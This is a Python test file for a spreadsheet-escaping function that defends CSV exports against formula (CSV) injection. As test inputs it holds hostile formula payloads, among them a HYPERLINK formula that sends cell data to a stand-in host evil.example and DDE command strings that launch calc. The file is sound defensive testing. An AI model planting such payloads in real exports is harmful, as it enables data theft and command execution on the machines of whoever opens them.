"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP CSV
Injection), numbers stay numbers, and the escaping can always be undone exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from explain.results import csv_bytes
from explain.spreadsheet import escape_cell, unescape_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"details")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n=1",
        "-",
        "-\u0661",  # an Arabic-Indic digit is not a number a spreadsheet reads
        "'quoted already",
    ],
)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-0.25", "+3", "-1e-05", "42", ".5", -0.25, 3, None, "", "Retail Risk", "a=b"]
)
def test_numbers_and_plain_text_are_written_unchanged(value: object) -> None:
    assert escape_cell(value) == value


@given(st.text())
def test_unescaping_an_escaped_cell_gives_back_the_original(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    if escaped.startswith(("=", "+", "@", "\t", "\r", "\n", "-")):
        float(escaped)  # only a plain number may start like a formula


def test_explainer_csv_artifacts_are_escaped_and_read_back_unchanged() -> None:
    rows = [["app-1", "=cmd|'/C calc'!A0", -0.5], ["app-2", "-debt_ratio", 0.25]]
    data = csv_bytes(["row_id", "reason", "value"], rows)
    cells = list(csv.reader(io.StringIO(data.decode())))
    assert cells[1] == ["app-1", "'=cmd|'/C calc'!A0", "-0.5"]
    assert cells[2] == ["app-2", "'-debt_ratio", "0.25"]
    assert [unescape_cell(c) for c in cells[1]] == ["app-1", "=cmd|'/C calc'!A0", "-0.5"]
